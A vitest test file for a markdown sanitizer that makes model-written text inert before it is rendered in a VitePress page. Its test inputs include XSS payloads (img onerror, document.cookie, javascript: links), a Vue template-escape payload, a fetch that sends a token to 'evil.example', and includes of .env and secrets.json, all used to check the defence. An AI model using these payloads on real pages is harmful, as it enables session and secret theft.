import MarkdownIt from 'markdown-it'
import { describe, expect, it } from 'vitest'
import { liveConstructs, neutralizedNotice, sanitizeMarkdown } from '../../../../client/skills/sanitize-markdown'

const clean = (text: string) => sanitizeMarkdown(text).markdown
// What VitePress's markdown-it (html: true) would make of it; entities stay entities there.
const render = (markdown: string) => new MarkdownIt({ html: true }).render(markdown)

describe('sanitizeMarkdown', () => {
  it('drops script and style blocks, including <script setup> and unclosed ones', () => {
    expect(sanitizeMarkdown('Hello <script>alert(document.cookie)</script> world')).toEqual({ markdown: 'Hello  world', neutralized: ['script'] })
    expect(clean('<script setup>\nconst token = document.querySelector("meta").content\n</script>\n\n# Title\n')).toBe('\n\n\n\n# Title\n')
    expect(clean('<STYLE type="text/css">body { display: none }</STYLE>After')).toBe('After')
    expect(clean('Text\n\n<script>\nfetch("https://evil.example/" + token)\n')).toBe('Text\n\n\n\n')
  })

  it('turns every tag into text: img onerror, iframes, javascript: hrefs, Vue components, comments', () => {
    expect(clean('<img src=x onerror="alert(1)">')).toBe('&lt;img src=x onerror="alert(1)">')
    expect(clean('<iframe src="https://evil.example"></iframe>')).toBe('&lt;iframe src="https://evil.example">&lt;/iframe>')
    expect(clean('<a href="javascript:alert(1)">click</a>')).toBe('&lt;a href="javascript&#58;alert(1)">click&lt;/a>')
    expect(clean('<Badge type="tip" @click="steal()" />')).toBe('&lt;Badge type="tip" @click="steal()" />')
    expect(clean('<!--@include: ../.env-->')).toBe('&lt;!--@include: ../.env-->')
    for (const text of ['<img src=x onerror=alert(1)>', '<iframe src=x></iframe>', '<div onmouseover="x()">hi</div>']) {
      expect(render(clean(text))).not.toMatch(/<(img|iframe|div)/)
    }
    expect(sanitizeMarkdown('<img src=x onerror=alert(1)>').neutralized).toEqual(['html'])
  })

  it('keeps comparisons readable: a lone < is escaped, > is left', () => {
    expect(clean('a < b and c > d')).toBe('a &lt; b and c > d')
    expect(render(clean('a < b'))).toBe('<p>a &lt; b</p>\n')
  })

  it('neutralizes Vue interpolations and attribute blocks outside code', () => {
    expect(clean('Total: {{ constructor.constructor("alert(1)")() }}')).toBe('Total: &#123;&#123; constructor.constructor("alert(1)")() }}')
    expect(clean('Escaped \\{\\{ still }}')).toBe('Escaped &#123;&#123; still }}')
    expect(clean('A paragraph {onclick="alert(1)"}')).toBe('A paragraph &#123;onclick="alert(1)"}')
    expect(clean('[link](/x){@click="steal()"}')).toBe('[link](/x)&#123;@click="steal()"}')
    expect(sanitizeMarkdown('{{ x }}').neutralized).toEqual(['interpolation'])
    expect(sanitizeMarkdown('text {:title="x"}').neutralized).toEqual(['attributes'])
  })

  it('keeps anchors and classes, the only harmless attribute blocks', () => {
    expect(clean('## Setup {#setup}\n\nText {.lead}')).toBe('## Setup {#setup}\n\nText {.lead}')
  })

  it('neutralizes javascript: and vbscript: link targets and snippet imports', () => {
    expect(clean('[click](javascript:alert(1)) and [vb](VBScript:msgbox)')).toBe('[click](javascript&#58;alert(1)) and [vb](VBScript&#58;msgbox)')
    expect(clean('notjavascript: stays')).toBe('notjavascript: stays')
    expect(clean('<<< @/../.env')).toBe('&lt;&lt;&lt; @/../.env')
    expect(clean('- <<< @/secrets.json')).toBe('- &lt;&lt;&lt; @/secrets.json')
  })

  it('leaves fenced code byte-identical, whatever it holds', () => {
    const fences = [
      '```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```',
      '~~~vue\n<template>{{ message }}</template>\n~~~',
      '````md\n```\n<b>nested</b>\n```\n````',
      '- item\n\n  ```js\n  if (a < b) { run() }\n  ```',
      '> ```\n> <script>quoted()</script>\n> ```',
    ]
    for (const fence of fences) {
      const text = `Before <b>x</b>.\n\n${fence}\n\nAfter {{ y }}.\n`
      const result = clean(text)
      expect(result).toContain(fence)
      expect(result).toContain('Before &lt;b>x&lt;/b>.')
      expect(result).toContain('After &#123;&#123; y }}.')
    }
  })

  it('leaves inline code byte-identical; a code span with {{ }} is wrapped in v-pre', () => {
    expect(clean('Use `a < b` and ``x ` <b> y`` here, not <b>.')).toBe('Use `a < b` and ``x ` <b> y`` here, not &lt;b>.')
    expect(clean('Vue shows `{{ message }}` inline.')).toBe('Vue shows <span v-pre>`{{ message }}`</span> inline.')
    expect(clean('A lone ` backtick, then <i>x</i>')).toBe('A lone ` backtick, then &lt;i>x&lt;/i>')
    expect(clean('\\`<img src=x onerror=alert(1)>`')).toBe('\\`&lt;img src=x onerror=alert(1)>`')
  })

  it('does not trust a "code span" that markdown-it reads as part of a link title', () => {
    const text = '[a](x "`") <img src=x onerror=alert(1)> `")'
    const result = clean(text)
    expect(result).not.toContain('<img')
    expect(liveConstructs(result)).toBe(0)
  })

  it('makes -vue fences and {{ }} in indented code inert; VitePress would run both', () => {
    expect(clean('```js-vue\n{{ 1 + 1 }}\n```')).toBe('```js\n{{ 1 + 1 }}\n```')
    expect(clean('```html-vue:line-numbers {1}\n<p>{{ x }}</p>\n```')).toBe('```html:line-numbers {1}\n<p>{{ x }}</p>\n```')
    expect(clean('Para.\n\n    {{ indented }}\n')).toBe('Para.\n\n    {\u200B{ indented }}\n')
    expect(sanitizeMarkdown('```js-vue\nx\n```').neutralized).toEqual(['vue-code'])
  })

  it('leaves ordinary prose, lists, tables, links and wiki links alone', () => {
    const prose = '# Understanding ETags\n\nAn ETag is a **fingerprint**.\n\n- [Home](/)\n- [[posts/etags|ETags]]\n\n| a | b |\n|---|---|\n| 1 | 2 |\n'
    expect(sanitizeMarkdown(prose)).toEqual({ markdown: prose, neutralized: [] })
  })

  it('never leaves anything live in a mixed document', () => {
    const mixed = [
      '# {{ title }} <img src=x onerror=1>',
      '',
      '<div onclick="x()">',
      '```js',
      'const html = "<script>"',
      '```',
      '</div>',
      '',
      'Text `{{ code }}` and {attrs=1} and <script>',
      'never closed',
    ].join('\n')
    expect(liveConstructs(mixed)).toBeGreaterThan(0)
    expect(liveConstructs(clean(mixed))).toBe(0)
  })
})

describe('sanitizeMarkdown in its place in a page', () => {
  const page = '# Page\n\n<b>The author’s own HTML</b>\n\n```html\n<p>old code</p>\n```\n\nOld paragraph.\n'

  it('changes only the model’s text: the author’s HTML stays, code around stays code', () => {
    const start = page.indexOf('Old paragraph.')
    const surroundings = { before: page.slice(0, start), original: 'Old paragraph.', after: page.slice(start + 'Old paragraph.'.length) }
    expect(sanitizeMarkdown('New <img src=x onerror=1> text.', surroundings)).toEqual({ markdown: 'New &lt;img src=x onerror=1> text.', neutralized: ['html'] })
  })

  it('keeps a rewrite inside a code block as code', () => {
    const start = page.indexOf('<p>old code</p>')
    const original = '<p>old code</p>'
    const surroundings = { before: page.slice(0, start), original, after: page.slice(start + original.length) }
    expect(sanitizeMarkdown('<p>{{ new }} code</p>', surroundings).markdown).toBe('<p>{{ new }} code</p>')
  })

  it('refuses a rewrite that closes the author’s code block and exposes what follows', () => {
    const source = '```html\n<p>one</p>\n<script>example()</script>\n```\n'
    const original = '<p>one</p>'
    const start = source.indexOf(original)
    const surroundings = { before: source.slice(0, start), original, after: source.slice(start + original.length) }
    expect(() => sanitizeMarkdown('<p>one</p>\n```', surroundings)).toThrow(expect.objectContaining({ code: 'ERR_UNSAFE_MARKDOWN' }))
  })
})

describe('neutralizedNotice', () => {
  it('says what was made inert', () => {
    expect(neutralizedNotice(['script', 'html'])).toMatch(/^The model's text had a script or style block \(removed\), HTML tags; it was made inert/)
  })
})
